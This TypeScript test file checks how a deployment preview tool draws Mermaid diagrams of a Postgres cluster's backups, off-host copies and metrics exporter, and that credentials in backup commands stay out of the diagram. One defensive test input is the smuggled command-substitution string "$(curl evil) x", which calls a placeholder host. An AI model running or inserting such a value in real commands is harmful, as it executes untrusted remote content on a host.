import { JSDOM } from "jsdom";
import { beforeAll, describe, expect, it } from "vitest";
import { offHostProgram } from "../../components/backups/offHostReview";
import { decideDiagrams, renderMermaid, type DiagramEvent } from "../../scripts/lib/previewDiagram";

// Issue 23: where backups go off the host, in the preview's Mermaid diagram (checked with
// Mermaid's own parser, in a jsdom window as status-preview-diagram.test.ts does).
type Parsed = { vertices: Map<string, { text: string; classes: string[] }>; edges: { start: string; end: string; text: string }[] };
let parse: (text: string) => Promise<Parsed>;

beforeAll(async () => {
  const dom = new JSDOM("<!doctype html><html><body></body></html>");
  Object.assign(globalThis, { window: dom.window, document: dom.window.document });
  const { default: mermaid } = await import("mermaid");
  parse = async (text) => {
    await mermaid.parse(text);
    const diagram = await mermaid.mermaidAPI.getDiagramFromText(text);
    const db = diagram.db as unknown as { getVertices(): Map<string, { text: string; classes: string[] }>; getEdges(): { start: string; end: string; text: string }[] };
    return { vertices: db.getVertices(), edges: db.getEdges() };
  };
}, 60_000);

function step(op: string, name: string, inputs: Record<string, unknown>): DiagramEvent {
  return { resourcePreEvent: { metadata: { op, urn: `urn:pulumi:dev::dbstack::dbstack:postgres:Cluster$pulumi-nodejs:dynamic/dbstack:HostCommand::${name}`, type: "pulumi-nodejs:dynamic/dbstack:HostCommand", new: op === "delete" ? null : { inputs }, old: op === "create" ? null : { inputs } } } };
}

describe("off-host backup destinations in the preview's diagram", () => {
  it("name the copy's program only, never its arguments (which may carry credentials)", () => {
    expect(offHostProgram('aws s3 cp "$BACKUP_FILE" s3://bucket/ --profile secret-profile')).toBe("aws");
    expect(offHostProgram("/usr/bin/rsync -a \"$BACKUP_FILE\" backup@10.0.0.9:/srv/")).toBe("rsync");
    expect(offHostProgram("  rclone copy x remote:")).toBe("rclone");
    expect(offHostProgram("$(curl evil) x")).toBe("a command");
    expect(offHostProgram('PGPASSWORD=hunter2 pg_dump')).toBe("a command");
  });

  it("draw the backups' off-host copy beside the backups, marked as the change does; Mermaid parses it", async () => {
    const component = "postgres cluster main";
    const host = { kind: "ssh", host: "10.0.0.5", user: "deploy" };
    const events = [
      step("same", "main-cluster", { target: host, identity: "main:default", review: { component, dataBearing: true } }),
      step("update", "main-backup-schedule", { target: host, review: { component, backup: { schedule: "0 2 * * *", retentionDays: 7, offHost: offHostProgram("rclone copy \"$BACKUP_FILE\" offsite:db --password-command x") }, dataBearing: true } }),
    ];
    const [diagram] = decideDiagrams(events, new Set([component]));
    const text = renderMermaid(diagram);
    expect(text).not.toContain("password");
    const { vertices, edges } = await parse(text);
    expect(Object.fromEntries([...vertices].map(([id, v]) => [id, v.text]))).toEqual({
      primary: "primary on deploy@10.0.0.5",
      backup0: "backups: 0 2 * * *, kept 7 days on deploy@10.0.0.5 (changed)",
      offhost0: "off the host by rclone (changed)",
    });
    expect(edges.map((e) => [e.start, e.end, e.text])).toEqual([
      ["primary", "backup0", "backed up to"],
      ["backup0", "offhost0", "copied"],
    ]);
    // Without offHostCommand, no such node.
    const plain = decideDiagrams([events[0], step("create", "main-backup-schedule", { target: host, review: { component, backup: { schedule: "0 2 * * *", retentionDays: 7 } } })], new Set([component]));
    expect(plain[0].nodes.map((n) => n.id)).toEqual(["primary", "backup0"]);
  });

  it("an exporter over TLS is one node for its three steps (exporter, key, certificate), beside the member it reads", async () => {
    const component = "postgres cluster main";
    const host = { kind: "ssh", host: "10.0.0.5", user: "deploy" };
    const standbyHost = { kind: "ssh", host: "10.0.0.6", user: "deploy" };
    const exporter = (member: string) => ({ member, name: "postgres_exporter", listen: "0.0.0.0:9287" });
    const events = [
      step("same", "main-cluster", { target: host, identity: "main:default", review: { component, dataBearing: true } }),
      step("same", "main-replica1", { target: standbyHost, identity: "main_r1@standby", review: { component, standby: "replica1", dataBearing: true } }),
      step("create", "main-replica1-exporter-tls-key", { target: standbyHost, review: { component, exporter: exporter("replica1") } }),
      step("create", "main-replica1-exporter-tls-certificate", { target: host, review: { component, exporter: exporter("replica1") } }),
      step("create", "main-replica1-exporter", { target: standbyHost, review: { component, exporter: exporter("replica1") } }),
    ];
    const { vertices, edges } = await parse(renderMermaid(decideDiagrams(events, new Set([component]))[0]));
    expect(Object.fromEntries([...vertices].map(([id, v]) => [id, v.text]))).toEqual({
      primary: "primary on deploy@10.0.0.5",
      standby0: "standby replica1 on deploy@10.0.0.6",
      exporter0: "postgres_exporter on 0.0.0.0:9287 (added)",
    });
    expect(edges.map((e) => [e.start, e.end, e.text])).toEqual([
      ["primary", "standby0", "replicates to"],
      ["standby0", "exporter0", "metrics from"],
    ]);
  });
});
